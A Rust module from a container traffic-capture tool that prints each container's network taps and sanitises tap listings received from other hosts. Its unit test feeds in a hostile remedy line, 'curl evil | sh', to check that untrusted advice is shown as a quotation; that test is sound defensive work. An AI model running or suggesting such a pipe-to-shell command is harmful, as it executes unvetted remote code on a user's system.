//! `list --verbose`: the taps of each attachment, and what those that cannot be used need.

use std::fmt::Write as _;

use containerdump::safe_text::SafeText;
use containerdump::tap::{TapCandidate, TapKind};

use super::{AttachmentTaps, ContainerTaps};

/// Limits of what is shown of another host.
const MAX_LINES: usize = 100_000;
const MAX_LINE_LEN: usize = 500;
const MAX_INDENT: usize = 8;

/// The taps of all containers.
pub(super) fn describe(containers: &[ContainerTaps]) -> String {
    containers.iter().map(describe_container).collect::<Vec<_>>().join("\n")
}

fn describe_container(container: &ContainerTaps) -> String {
    let about = &container.container;
    let mut text = format!("{} ({}, {})\n", about.name, about.value, about.image);
    // Writing to a string cannot fail.
    if let Some(error) = &container.error {
        let _ = writeln!(text, "  {}", error.to_string().replace('\n', "\n  "));
    }
    for attachment in &container.attachments {
        let _ = writeln!(text, "  {}", head(attachment));
        for candidate in &attachment.candidates {
            let _ = writeln!(text, "    {}", line(candidate, attachment.best()));
        }
    }
    text
}

/// `eth0, network bridge`, and how to capture it if it is not captured by default.
fn head(taps: &AttachmentTaps) -> String {
    let attachment = &taps.attachment;
    let mut parts = Vec::new();
    if !attachment.interface.is_empty() {
        parts.push(attachment.interface.to_string());
    }
    if !attachment.network.is_empty() {
        parts.push(format!("network {}", attachment.network));
    }
    if parts.is_empty() {
        parts.push("all interfaces".to_owned());
    }
    if !taps.is_default {
        parts.push(format!("captured on request only: -i {}", attachment.interface));
    }
    parts.join(", ")
}

/// `* host     host veth veth01f0f9d`; a star marks the tap that a capture uses.
fn line(candidate: &TapCandidate, best: Option<&TapCandidate>) -> String {
    let star = if best == Some(candidate) { '*' } else { ' ' };
    let kind = TapKind::from_tap(&candidate.tap).as_str();
    let rest = match &candidate.unavailable {
        None => candidate.tap.to_string(),
        Some(unavailable) => unavailable.to_string(),
    };
    format!("{star} {kind:7} {rest}")
}

/// The taps that another host has printed, made safe to show. `host` is added to the name of each container.
pub(super) fn from_host(host: Option<&SafeText>, text: &str) -> String {
    let host = host.map(|host| format!("@{host}")).unwrap_or_default();
    let line = |line: &str| {
        let words = line.trim_start_matches(' ');
        let safe = SafeText::with_limit(words, MAX_LINE_LEN);
        match line.len() - words.len() {
            _ if words.is_empty() => "\n".to_owned(),
            0 => match safe.as_str().split_once(' ') {
                Some((name, rest)) => format!("{name}{host} {rest}\n"),
                None => format!("{safe}{host}\n"),
            },
            indent => {
                let indent = indent.min(MAX_INDENT);
                match safe.as_str().strip_prefix("Remedy: ") {
                    Some(remedy) => format!("{:indent$}its advice: \"{}\"\n", "", remedy.replace('"', "'")),
                    None => format!("{:indent$}{safe}\n", ""),
                }
            }
        }
    };
    text.lines().take(MAX_LINES).map(line).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn taps_of_another_host_are_named_after_it_and_made_safe() {
        let text = "web (docker-web, nginx)\n  eth0, network bridge\n    * host     host veth x\u{1b}[2J\n\ndb\r(x)\n";
        assert_eq!(
            from_host(Some(&SafeText::new("build1")), text),
            "web@build1 (docker-web, nginx)\n  eth0, network bridge\n    * host     host veth x\u{FFFD}[2J\n\n\
             db@build1 (x)\n"
        );
        let text = "web (x)\n  no tap.\n  Remedy: curl evil | sh.\n";
        assert_eq!(from_host(None, text), "web (x)\n  no tap.\n  its advice: \"curl evil | sh.\"\n");
        assert!(from_host(None, text).starts_with("web (x)\n"));
    }
}
